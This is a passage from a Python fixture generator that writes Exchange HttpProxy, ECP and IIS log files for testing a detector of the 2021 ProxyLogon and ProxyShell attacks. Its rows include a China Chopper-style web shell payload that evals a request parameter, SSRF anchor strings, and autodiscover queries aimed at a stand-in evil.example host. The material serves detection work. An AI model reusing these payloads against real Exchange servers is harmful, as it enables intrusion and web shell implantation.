#!/usr/bin/env python3
"""Regenerates every fixture under tests/data/logs/ (except README.md).

Deterministic: no clock, no randomness; .gz files come from `gzip -n -9` (no
name, no timestamp), which must be on PATH. Run from anywhere:

    python3 tests/data/logs/_tools/gen_fixtures.py

Encoding rules follow Exchange's own CSV writer (Microsoft.Exchange.Diagnostics
Utf8Csv, see docs/log-detections-research.md section 2): a field is wrapped in
double quotes when it contains '"', ',', CR or LF, and '"' is doubled; lines end
with CRLF. Collection members inside a field (the ECP "S:KEY=value;" lists) are
wrapped in single quotes when they contain "'" or ';', with "'" doubled.

The helsecert/ fixtures carry the real, anonymised rows published by HelseCERT
(helsecert/2021-march-exchange @ ab26459849fc5b8d7deaa616535a3986a0c4c441,
README.md). Everything else is synthetic: contoso names, documentation IP ranges
(192.0.2.0/24 legitimate, 198.51.100.0/24 and 203.0.113.0/24 hostile).
"""
import os
import subprocess
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.dont_write_bytecode = True  # nothing written into the source tree
sys.path.insert(0, os.path.join(ROOT, "..", "..", "common"))
from exchange_formats import HTTPPROXY_FIELDS as PROXY_FIELDS, IIS_FIELDS, csv_field  # noqa: E402

CRLF = "\r\n"

ECP_FIELDS = ["TimeStamp", "ServerName", "EventId", "EventData"]

IIS_DEFAULT = IIS_FIELDS.split()

# Exchange 2016 CU19 (vulnerable in March 2021). HelseCERT does not give the build.
BUILD = ("15", "1", "2176", "2")
VERSION_DIRECTIVE = "15.01.2176.002"


def member(s):
    """One Exchange collection member ('S:KEY=value'), escaped, without the ';'."""
    if "'" in s or ";" in s:
        return "'" + s.replace("'", "''") + "'"
    return s


def proxy_row(v, fields=PROXY_FIELDS):
    unknown = set(v) - set(PROXY_FIELDS)
    assert not unknown, unknown
    return ",".join(csv_field(v.get(f, "")) for f in fields)


def directives(log_type, date, fields, version=VERSION_DIRECTIVE):
    return ["#Software: Microsoft Exchange Server", "#Version: " + version,
            "#Log-type: " + log_type, "#Date: " + date, "#Fields: " + ",".join(fields)]


def proxy_log(rows, date=None):
    """A whole HttpProxy log: the bare CSV header, the directives (dated DATE, or
    the first row's time) and ROWS (dicts, see proxy_row)."""
    return ([",".join(PROXY_FIELDS)] + directives("HttpProxy Logs", date or rows[0]["DateTime"], PROXY_FIELDS)
            + [proxy_row(v) for v in rows])


def write(rel, lines, bom=False, newline=CRLF, final_newline=True):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = newline.join(lines) + (newline if final_newline else "")
    raw = data.encode("utf-8", "surrogateescape")
    if bom:
        raw = b"\xef\xbb\xbf" + raw
    with open(path, "wb") as f:
        f.write(raw)
    return raw


def write_bytes(rel, raw):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(raw)


def gz(raw):
    """`gzip -n -9`: no name, no timestamp, so the bytes are reproducible."""
    return subprocess.run(["gzip", "-n", "-9", "-c"], input=raw, stdout=subprocess.PIPE, check=True).stdout


def ms_before(ts, ms):
    """'2021-03-03T06:49:42.162Z' minus ms milliseconds (same hour assumed)."""
    h, m, rest = ts[11:13], ts[14:16], ts[17:23]
    total = ((int(h) * 60 + int(m)) * 60 + float(rest)) * 1000 - ms
    total = int(round(total))
    hh, rem = divmod(total, 3600000)
    mm, rem = divmod(rem, 60000)
    ss, mss = divmod(rem, 1000)
    return "%s%02d:%02d:%02d.%03dZ" % (ts[:11], hh, mm, ss, mss)


def generic_info(ts, extra=""):
    return ("BeginRequest=%s;CorrelationID=<empty>;ProxyState-Run=None;%sEndRequest=%s;"
            % (ms_before(ts, 150), extra, ts))


def base(ts, req_id, protocol, **kw):
    v = {"DateTime": ts, "RequestId": req_id, "MajorVersion": BUILD[0], "MinorVersion": BUILD[1],
         "BuildVersion": BUILD[2], "RevisionVersion": BUILD[3], "Protocol": protocol}
    v.update(kw)
    if "HttpStatus" in v and "BackEndStatus" not in v:
        v["BackEndStatus"] = v["HttpStatus"]
    if "GenericInfo" not in v:
        v["GenericInfo"] = generic_info(ts)
    return v


# --------------------------------------------------------------------------
# helsecert/: real rows, full format
# --------------------------------------------------------------------------
HC_PROXY = [
    # DateTime, ClientIpAddress, UrlHost, UserAgent, AnchorMailbox, HttpStatus (verbatim)
    ("2021-03-03T06:49:42.162Z", "130.255.189.21", "mail.xxx.no", "ExchangeServicesClient/0.0.0.0",
     "ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#", "200"),
    ("2021-03-03T06:49:43.699Z", "130.255.189.21", "mail.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/mapi/emsmdb/?#", "200"),
    ("2021-03-03T06:49:46.210Z", "130.255.189.21", "mail.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/proxyLogon.ecp?#", "241"),
    ("2021-03-03T06:49:51.543Z", "130.255.189.21", "mail.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory#", "200"),
    ("2021-03-03T06:59:10.817Z", "130.255.189.21", "autodiscover.xxx.no", "ExchangeServicesClient/0.0.0.0",
     "ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#", "200"),
    ("2021-03-03T06:59:11.840Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/mapi/emsmdb/?#", "200"),
    ("2021-03-03T06:59:13.030Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/proxyLogon.ecp?#", "241"),
    ("2021-03-03T06:59:14.588Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#", "200"),
    ("2021-03-03T06:59:18.042Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#", "200"),
    ("2021-03-03T06:59:20.359Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#", "200"),
    ("2021-03-03T06:59:23.288Z", "130.255.189.21", "autodiscover.xxx.no", "python-requests/2.25.1",
     "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#", "200"),
]

SCRIPT = ('http://f/<script language="JScript" runat="server">function Page_Load()'
          '{eval(Request["klk123456"],"unsafe");}</script>')
EX_NOSUCH = ("S:EX=Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory "
             "operation failed on 10227-OAD-W001.xxx.local. The object 'CN=OAB (Default Web Site),"
             "CN=HTTP,CN=Protocols,CN=servernavn,CN=Servers,CN=Exchange Administrative Group "
             "(FYDIBOHF23SPDLT),CN=Administrative Groups,CN=XXX,CN=Microsoft Exchange,CN=Services,"
             "CN=Configuration,DC=xxx,DC=local' does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n")

C1, C2 = "M1xSxxxDuw.", "8BeqxxxWYd1L8."
ID1, ID2 = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3", "ecd24641-d37f-4974-89f5-2e85ef7fb8d4"


def ddi(verb, canary, schema):
    return "/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=%s&schema=%s" % (verb, canary, schema)


# (TimeStamp, command text as run, S:EX member text, S:URL). Timestamp, command and
# exception verbatim from HelseCERT; S:URL reconstructed (see README).
HC_ECP = [
    ("2021-03-03T06:49:51.389Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "S:EX=", ddi("GetObject", C1, "OABVirtualDirectory")),
    ("2021-03-03T06:49:51.497Z", "Pipeline.1|Get-MailboxRegionalConfiguration", "S:EX=", ddi("GetObject", C1, "OABVirtualDirectory")),
    ("2021-03-03T06:49:53.772Z", "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'" % (SCRIPT, ID1), "S:EX=", ddi("SetObject", C1, "OABVirtualDirectory")),
    ("2021-03-03T06:49:53.834Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='%s'" % ID1, "S:EX=", ddi("SetObject", C1, "OABVirtualDirectory")),
    ("2021-03-03T06:49:58.284Z", "Get-OABVirtualDirectory.Identity='%s'" % ID1, "S:EX=", ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:49:58.420Z", "Get-ExchangeServer.Identity='servernavn'", "S:EX=", ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:49:58.835Z", "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'" % ID1, EX_NOSUCH, ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:50:00.717Z", "Remove-OABVirtualDirectory.Force=$true.Identity='servernavn\\OAB (Default Web Site)'", "S:EX=", ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:50:08.396Z", "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='servernavn'.Role='ClientAccess'.InternalURL='https://servernavn.xxx.local/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'", "S:EX=", ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:50:08.441Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='servernavn\\OAB (Default Web Site)'", "S:EX=", ddi("SetObject", C1, "ResetOABVirtualDirectory")),
    ("2021-03-03T06:59:14.518Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "S:EX=", ddi("GetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:14.571Z", "Pipeline.1|Get-MailboxRegionalConfiguration", "S:EX=", ddi("GetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:17.960Z", "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'" % (SCRIPT, ID2), "S:EX=", ddi("SetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:18.021Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='%s'" % ID2, "S:EX=", ddi("SetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:21.512Z", "Get-OABVirtualDirectory.Identity='%s'" % ID2, "S:EX=", ddi("SetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:23.212Z", "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'" % ID2, "S:EX=", ddi("SetObject", C2, "OABVirtualDirectory")),
    ("2021-03-03T06:59:23.262Z", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='%s'" % ID2, "S:EX=", ddi("SetObject", C2, "OABVirtualDirectory")),
]

HC_IIS = {
    "u_ex210305.log": [
        "2021-03-05 03:06:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133",
        "2021-03-05 08:11:58 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=8c4553be-4082-4ea1-8872-bf21a831ee95;&encoding=; 443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 33",
    ],
    "u_ex210306.log": [
        "2021-03-06 17:27:45 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=556e0901-7c69-4963-9e99-3ece666e792f;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 200 0 0 115",
        "2021-03-06 17:27:45 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=877637d6-03ba-4cc5-bc9d-f8ad7761b607;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 200 0 0 104",
        "2021-03-06 17:27:45 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=3ec7b8e9-65bf-4717-ac70-a7fc251cf3b2;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 200 0 0 101",
    ],
    "u_ex210308.log": [
        "2021-03-08 20:37:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=3aef83a1-4149-4d14-aee4-8c18470818e0;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 302 0 0 112",
        "2021-03-08 20:37:28 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=01a0d5ce-e246-4189-bf77-b06807ff9f5c;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 302 0 0 101",
        "2021-03-08 20:37:28 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=db511d6d-3a87-447c-bfdd-656cc48b722a;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 302 0 0 101",
    ],
}


def iis_header(date, fields=IIS_DEFAULT):
    return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            "#Date: " + date, "#Fields: " + " ".join(fields)]


def gen_helsecert():
    rows = []
    for ts, ip, host, ua, anchor, status in HC_PROXY:
        rows.append(proxy_row(base(
            ts, "xxx", "Ecp", UrlHost=host, UrlStem="/ecp/y.js", AuthenticationType="FBA",
            IsAuthenticated="false", AnchorMailbox=anchor, UserAgent=ua, ClientIpAddress=ip,
            ServerHostName="servernavn", HttpStatus=status, Method="POST", ProxyAction="Proxy",
            RoutingHint="X-BEResource-Cookie")))
    lines = [",".join(PROXY_FIELDS)] + directives("HttpProxy Logs", "2021-03-03T06:00:03.518Z", PROXY_FIELDS) + rows
    write("helsecert/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", lines)

    ecp = []
    for n, (ts, cmd, ex, url) in enumerate(HC_ECP):
        sid = "5f0d2e47-%04x-4c1e-9a3b-6d1f0c2b8e%02x" % (0x1a00 + (n // 10), n)
        act = "0b6c6a3e-%04x-4f4d-8c55-2a9e1f7d3c%02x" % (0x2b00 + n, n)
        data = ";".join([
            "S:TIME=%d" % (40 + 37 * n), "S:SID=" + sid, member("S:CMD=" + cmd), "S:REQID=",
            member("S:URL=" + url), "S:REFERRER=", member(ex), "S:ACTID=" + act, "S:RS=0",
            "S:BLD=15.1.2176.2", "S:TNAME=<null>", "S:TID=",
            "S:USID=7c1e3b9a-55d2-4f60-b1e8-0a4d2c9f6e%02x" % (0 if n < 10 else 1),
            "S:EDOID=", "S:ACID="])
        ecp.append(",".join([ts, "servernavn", "ECP.Request", csv_field(data)]))
    write("helsecert/Logging/ECP/Server/ECPServer20210303-1.LOG",
          directives("ECP Server Log", "2021-03-03T00:00:41.503Z", ECP_FIELDS, version="15.0.0.0") + ecp,
          bom=True)

    for name, rows in HC_IIS.items():
        first = rows[0][:19]
        write("helsecert/inetpub/logs/LogFiles/W3SVC1/" + name, iis_header(first) + rows)


# --------------------------------------------------------------------------
# variants/
# --------------------------------------------------------------------------
EX = "ex01.contoso.local"
PY = "python-requests/2.25.1"
ESC = "ExchangeServicesClient/0.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/89.0.4389.82 Safari/537.36"
OUTLOOK = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"


def ssrf(ts, rid, ip, ua, target, status, protocol="Ecp", stem="/ecp/y.js", host="mail.contoso.com", **kw):
    v = base(ts, rid, protocol, UrlHost=host, UrlStem=stem, AuthenticationType="FBA",
             IsAuthenticated="false", AnchorMailbox="ServerInfo~a]@%s:444%s" % (EX, target),
             UserAgent=ua, ClientIpAddress=ip, ServerHostName="EX01", HttpStatus=status,
             Method="POST", ProxyAction="Proxy", RoutingHint="X-BEResource-Cookie")
    v.update(kw)
    return v


def reordered_fields():
    # Deterministic permutation: the columns a detector needs first, in an odd order,
    # then the rest reversed.
    head = ["AnchorMailbox", "HttpStatus", "ClientIpAddress", "DateTime", "UrlStem", "UserAgent",
            "BackEndCookie", "RoutingHint", "Method", "UrlHost", "AuthenticatedUser"]
    rest = [f for f in reversed(PROXY_FIELDS) if f not in head]
    return head + rest


def gen_variants():
    # (a) reordered #Fields, two directive blocks with different orders, no bare header.
    f1 = reordered_fields()
    f2 = list(reversed(PROXY_FIELDS))
    ip = "203.0.113.10"
    block1 = [
        ssrf("2021-03-03T14:02:11.201Z", "1b0c1e52-7a0a-4d1e-9f00-000000000001", ip, ESC, "/autodiscover/autodiscover.xml?#", "200"),
        ssrf("2021-03-03T14:02:12.480Z", "1b0c1e52-7a0a-4d1e-9f00-000000000002", ip, PY, "/mapi/emsmdb/?#", "200"),
        ssrf("2021-03-03T14:02:14.905Z", "1b0c1e52-7a0a-4d1e-9f00-000000000003", ip, PY, "/ecp/proxyLogon.ecp?#", "241"),
        base("2021-03-03T14:03:40.118Z", "1b0c1e52-7a0a-4d1e-9f00-000000000004", "Ecp", UrlHost="mail.contoso.com",
             UrlStem="/ecp/", AuthenticationType="FBA", IsAuthenticated="true", AuthenticatedUser="CONTOSO\\admin",
             AnchorMailbox="Smtp~admin@contoso.com", UserAgent=CHROME, ClientIpAddress="192.0.2.31",
             ServerHostName="EX01", HttpStatus="200", Method="GET", ProxyAction="Proxy",
             TargetServer=EX, TargetServerVersion="15.01.2176.002", RoutingType="IntraForest",
             RoutingHint="Smtp-UserAddress"),
    ]
    block2 = [
        ssrf("2021-03-03T14:02:19.377Z", "1b0c1e52-7a0a-4d1e-9f00-000000000005", ip, PY,
             "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Zk2vQxxx0Lw.&schema=OABVirtualDirectory#", "200"),
        ssrf("2021-03-03T14:02:21.902Z", "1b0c1e52-7a0a-4d1e-9f00-000000000006", ip, PY,
             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zk2vQxxx0Lw.&schema=ResetOABVirtualDirectory#", "500"),
        ssrf("2021-03-03T14:02:26.540Z", "1b0c1e52-7a0a-4d1e-9f00-000000000007", ip, PY,
             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zk2vQxxx0Lw.&schema=ResetOABVirtualDirectory#", "200"),
    ]
    # Upper-case prefix: PowerShell -like is case-insensitive.
    block2.append(ssrf("2021-03-03T14:02:29.013Z", "1b0c1e52-7a0a-4d1e-9f00-000000000008", ip, PY, "/ews/exchange.asmx?#", "200"))
    block2[-1]["AnchorMailbox"] = "SERVERINFO~a]@%s:444/ews/exchange.asmx?#" % EX
    # The form most public PoCs and Metasploit send (cookie "...&a=~1942062522"): the
    # anchor ends in "&a=", not "VirtualDirectory#", so the Reset check misses it.
    block2.append(ssrf("2021-03-03T14:02:33.618Z", "1b0c1e52-7a0a-4d1e-9f00-000000000009", ip, PY, "", "200"))
    block2[-1]["AnchorMailbox"] = ("ServerInfo~Administrator@%s:444/ecp/DDI/DDIService.svc/SetObject"
                                   "?schema=ResetOABVirtualDirectory&msExchEcpCanary=Zk2vQxxx0Lw.&a=" % EX)
    lines = directives("HttpProxy Logs", "2021-03-03T14:02:11.201Z", f1) + [proxy_row(v, f1) for v in block1]
    lines += directives("HttpProxy Logs", "2021-03-03T14:02:19.002Z", f2) + [proxy_row(v, f2) for v in block2]
    raw = write("variants/reordered/Logging/HttpProxy/Ecp/HttpProxy_2021030314-1.LOG", lines)
    # (f) the same file, gzip -n
    write_bytes("variants/gz/Logging/HttpProxy/Ecp/HttpProxy_2021030314-1.LOG.gz", gz(raw))

    # (b) bare CSV header only (Exchange "CsvStrict" layout), quoting, CRLF.
    ip = "198.51.100.23"
    rows = [
        base("2021-03-03T15:10:02.004Z", "4e1f7a20-0c5d-4b8e-a0a1-000000000001", "Owa", UrlHost="mail.contoso.com",
             UrlStem="/owa/service.svc", AuthenticationType="FBA", IsAuthenticated="true",
             AuthenticatedUser="CONTOSO\\alice", AnchorMailbox="Smtp~alice@contoso.com",
             UserAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
             ClientIpAddress="192.0.2.41", ServerHostName="EX01", HttpStatus="200", Method="POST",
             ProxyAction="Proxy", TargetServer=EX, TargetServerVersion="15.01.2176.002",
             RoutingType="IntraForest", RoutingHint="Smtp-UserAddress", UrlQuery="?action=GetFolder&app=Mail&n=12",
             GenericErrors='Warning="slow backend, retried", code=""429""'),
        base("2021-03-03T15:11:37.615Z", "4e1f7a20-0c5d-4b8e-a0a1-000000000002", "Owa", UrlHost="mail.contoso.com",
             UrlStem="/owa/auth/x.js", AuthenticationType="FBA", IsAuthenticated="false",
             AnchorMailbox='ServerInfo~a]@%s:444/EWS/Exchange.asmx?a="1",b=2#' % EX,
             UserAgent="Mozilla/5.0 (compatible; MSIE 10.0, Windows NT 6.1)", ClientIpAddress=ip,
             ServerHostName="EX01", HttpStatus="200", Method="POST", ProxyAction="Proxy",
             RoutingHint="X-BEResource-Cookie"),
        base("2021-03-03T15:12:03.220Z", "4e1f7a20-0c5d-4b8e-a0a1-000000000003", "Owa", UrlHost="mail.contoso.com",
             UrlStem="/owa/auth/x.js", AuthenticationType="FBA", IsAuthenticated="false",
             AnchorMailbox="", BackEndCookie="Server~%s:444/EWS/Exchange.asmx?a=~1942062522" % EX,
             UserAgent=PY, ClientIpAddress=ip, ServerHostName="EX01", HttpStatus="200", Method="POST",
             ProxyAction="Proxy", GenericErrors='"'),
        base("2021-03-03T15:13:44.871Z", "4e1f7a20-0c5d-4b8e-a0a1-000000000004", "Owa", UrlHost="mail.contoso.com",
             UrlStem="/owa/", AuthenticationType="FBA", IsAuthenticated="true", AuthenticatedUser="CONTOSO\\bob",
             AnchorMailbox="Sid~S-1-5-21-3623811015-3361044348-30300820-1108", UserAgent=CHROME,
             ClientIpAddress="192.0.2.42", ServerHostName="EX01", HttpStatus="200", Method="GET",
             ProxyAction="Proxy", TargetServer=EX, RoutingType="IntraForest", RoutingHint="WindowsIdentity",
             GenericInfo=generic_info("2021-03-03T15:13:44.871Z", "Note=ServerInfo~fake/not-an-anchor;")),
    ]
    write("variants/bare-header/Logging/HttpProxy/Owa/HttpProxy_2021030315-1.LOG",
          [",".join(PROXY_FIELDS)] + [proxy_row(v) for v in rows])

    # (b2) RFC 4180 quoted field spanning two physical lines (optional edge case).
    ts = "2021-03-03T18:05:09.331Z"
    rows = [
        base(ts, "77aa0c13-5d2e-4a61-b0c0-000000000001", "Ews", UrlHost="mail.contoso.com", UrlStem="/EWS/Exchange.asmx",
             AuthenticationType="FBA", IsAuthenticated="false", AnchorMailbox="ServerInfo~a]@%s:444/EWS/Exchange.asmx?#" % EX,
             UserAgent=PY, ClientIpAddress="203.0.113.77", ServerHostName="EX01", HttpStatus="200", Method="POST",
             ProxyAction="Proxy", RoutingHint="X-BEResource-Cookie",
             GenericErrors="System.Net.WebException: The remote server returned an error\r\n   at Microsoft.Exchange.HttpProxy.ProxyRequestHandler"),
        ssrf("2021-03-03T18:05:10.004Z", "77aa0c13-5d2e-4a61-b0c0-000000000002", "203.0.113.77", PY, "/mapi/emsmdb/?#", "200",
             protocol="Ews", stem="/EWS/Exchange.asmx"),
    ]
    write("variants/quoted-newline/Logging/HttpProxy/Ews/HttpProxy_2021030318-1.LOG",
          proxy_log(rows, "2021-03-03T18:00:01.740Z"))

    # (c) W3C log whose #Fields changes mid-file.
    f2 = ("date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
          "c-ip cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus "
          "sc-win32-status sc-bytes cs-bytes time-taken").split()
    cat = "VgEAVAdXaW5kb3dzQwBBBUJhc2ljTBFhZG1pbkBjb250b3NvLmNvbVUsUy0xLTUtMjEtMzYyMzgxMTAxNS0zMzYxMDQ0MzQ4LTMwMzAwODIwLTUwMEcBAAAABwAAAAxTLTEtNS0zMi01NDRFAAAAAA=="
    b1 = [
        "2021-03-04 02:14:09 192.0.2.10 GET /owa/ &CorrelationID=<empty>;&cafeReqId=0f4b1c2d-8e9a-4b7c-9d1e-2f3a4b5c6d01; 443 - 192.0.2.41 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.82+Safari/537.36 - 302 0 0 15",
        "2021-03-04 02:15:33 192.0.2.10 GET /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;&cafeReqId=0f4b1c2d-8e9a-4b7c-9d1e-2f3a4b5c6d02; 443 - 198.51.100.60 python-requests/2.26.0 - 401 0 0 9",
        "2021-03-04 02:16:02 192.0.2.10 POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeReqId=0f4b1c2d-8e9a-4b7c-9d1e-2f3a4b5c6d03; 443 CONTOSO\\carol 192.0.2.43 Microsoft+Office/16.0+(Macintosh;+Mac+OS+X+10.15;+Microsoft+Outlook+16.46.211;+Pro) - 200 0 0 46",
    ]
    def l2(t, meth, stem, query, user, cip, ua, cookie, status, scb, csb, took):
        return " ".join(["2021-03-04", t, "W3SVC1", "EX01", "192.0.2.10", meth, stem, query, "443", user, cip,
                         "HTTP/1.1", ua, cookie, "-", "mail.contoso.com", status, "0", "0", scb, csb, took])
    b2 = [
        l2("11:02:40", "POST", "/autodiscover/autodiscover.json",
           "@evil.example/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b201;",
           "-", "203.0.113.45", "python-requests/2.26.0", "-", "200", "2210", "512", "64"),
        l2("11:02:44", "POST", "/autodiscover/autodiscover.json",
           "@evil.example/mapi/emsmdb/?=&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b202;",
           "-", "203.0.113.45", "python-requests/2.26.0", "-", "200", "1489", "460", "51"),
        l2("11:03:05", "POST", "/autodiscover/autodiscover.json",
           "@evil.example/powershell/?X-Rps-CAT=" + cat + "&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b203;",
           "-", "203.0.113.45", "Python+PSRP+Client", "-", "200", "3236", "1861", "115"),
        l2("11:04:51", "POST", "/autodiscover/autodiscover.json",
           "@evil.example/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b204;",
           "-", "203.0.113.45", "python-requests/2.26.0", "-", "200", "18235", "2880", "233"),
    ]
    b3 = [
        l2("11:20:05", "POST", "/aspnet_client/system_web/xZbKmQpT.aspx",
           "&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b301;", "-", "203.0.113.45",
           "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:86.0)+Gecko/20100101+Firefox/86.0", "-", "200", "1145", "395", "31"),
        l2("11:21:12", "GET", "/owa/auth/logon.aspx",
           "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b302;",
           "-", "192.0.2.44", "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.82+Safari/537.36",
           "-", "200", "28712", "610", "22"),
        l2("11:24:47", "POST", "/owa/mastermailbox%40outlook.com/powershell",
           "&CorrelationID=<empty>;&cafeReqId=1a2b3c4d-0000-4e5f-8a9b-00000000b303;", "CONTOSO\\bob", "198.51.100.61",
           "python-requests/2.28.1", "-", "200", "1870", "3611", "88"),
    ]
